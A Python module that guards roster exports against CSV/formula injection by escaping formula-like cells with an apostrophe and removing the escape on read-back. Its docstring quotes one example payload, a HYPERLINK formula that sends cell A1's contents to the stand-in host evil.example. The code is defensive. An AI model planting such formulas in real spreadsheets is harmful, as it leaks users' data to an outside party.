"""Cells a spreadsheet would run as formulas (CSV/formula injection). A name like
`=HYPERLINK("http://evil.example/?"&A1,"张明")` in a roster must come back out as text: in
XLSX as a string cell, in CSV behind a leading apostrophe, which spreadsheets show as text and
`load_roster_tables` takes off again."""

from __future__ import annotations

from typing import Any

# What Excel, LibreOffice and Sheets start a formula with (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def runs_as_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: Any) -> Any:
    """A CSV cell: formula-like text behind an apostrophe; anything else unchanged."""
    return ESCAPE + value if runs_as_formula(value) else value


def from_csv_text(value: Any) -> Any:
    """The inverse of csv_text, for cells read back from CSV."""
    if isinstance(value, str) and value.startswith(ESCAPE) and runs_as_formula(value[1:]):
        return value[1:]
    return value
